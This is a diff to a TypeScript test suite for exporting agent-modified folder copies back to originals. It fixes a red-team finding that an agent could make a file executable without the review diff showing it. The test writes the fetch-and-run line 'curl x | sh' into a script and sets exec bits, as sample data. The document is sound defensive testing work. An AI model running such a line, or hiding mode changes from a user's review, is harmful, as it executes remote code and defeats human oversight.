@@ -125,20 +125,34 @@ describe('copy folders: what the export writes back', () => {
     expect((await running).stdout).toContain('end');
   });
 
-  // BUG (attack pass A, finding 3): the export carries the copy's mode bits onto the original, but the
-  // review (folders:diff) never shows modes. An agent turns an existing 0644 file into a script and
-  // makes it executable; the user sees a text diff, exports it, and the original becomes 0755.
-  it.fails('an export does not make a file executable unless the review says so', async () => {
+  // Was BUG (attack pass A, finding 3): the export carried the copy's mode bits onto the original,
+  // but the review (folders:diff) never showed modes. An agent turned an existing 0644 file into a
+  // script and made it executable; the user saw a text diff and the original became 0755. Now the
+  // export keeps the host file's mode (a new file gets no exec bits) and the review says so.
+  it('an export does not make a file executable; the review shows the mode change as not exported', async () => {
     const { src } = source('mode');
-    const cfg = s.setup((a) => ({ name: a, folders: [{ path: src, access: 'copy' }], command: ['bash', '-c', "printf 'curl x | sh\\n' > src/tool.sh; chmod 755 src/tool.sh; echo end"] }), dataDir);
+    writeFileSync(join(src, 'same.sh'), 'echo same\n', { mode: 0o644 });
+    const cfg = s.setup(
+      (a) => ({
+        name: a,
+        folders: [{ path: src, access: 'copy' }],
+        command: ['bash', '-c', "printf 'curl x | sh\\n' > src/tool.sh; chmod 755 src/tool.sh; chmod 755 src/same.sh; printf 'x\\n' > src/new.sh; chmod 755 src/new.sh; echo end"],
+      }),
+      dataDir,
+    );
     expect((await runResuming(dataDir, cfg.file, cfg.name)).stdout).toContain('end');
     const diff = await api<{ files: DiffFile[] }>('folders:diff', { name: cfg.name, folder: src });
     const entry = diff.value!.files.find((f) => f.path === 'tool.sh')!;
     expect(entry.exportable).toBe(true); // positive control: the content change is offered
-    const out = await api<ExportResult>('folders:export', { name: cfg.name, folder: src, files: ['tool.sh'] });
-    expect(out.value!.written).toEqual([join(src, 'tool.sh')]);
-    const executable = (statSync(join(src, 'tool.sh')).mode & 0o111) !== 0;
-    const shown = /execut|mode|755/i.test(`${entry.note ?? ''} ${entry.diff ?? ''}`);
-    expect(!executable || shown).toBe(true);
+    expect(entry.note).toMatch(/executable/);
+    const same = diff.value!.files.find((f) => f.path === 'same.sh')!;
+    expect(same.exportable).toBe(false);
+    expect(same.note).toMatch(/mode change \(not exported\)/);
+    const out = await api<ExportResult>('folders:export', { name: cfg.name, folder: src });
+    expect(out.value!.written.sort()).toEqual([join(src, 'new.sh'), join(src, 'tool.sh')]);
+    expect(readFileSync(join(src, 'tool.sh'), 'utf8')).toBe('curl x | sh\n'); // the content is exported
+    expect(statSync(join(src, 'tool.sh')).mode & 0o777).toBe(0o644);
+    expect(statSync(join(src, 'same.sh')).mode & 0o777).toBe(0o644);
+    expect(statSync(join(src, 'new.sh')).mode & 0o111).toBe(0);
   });
 });
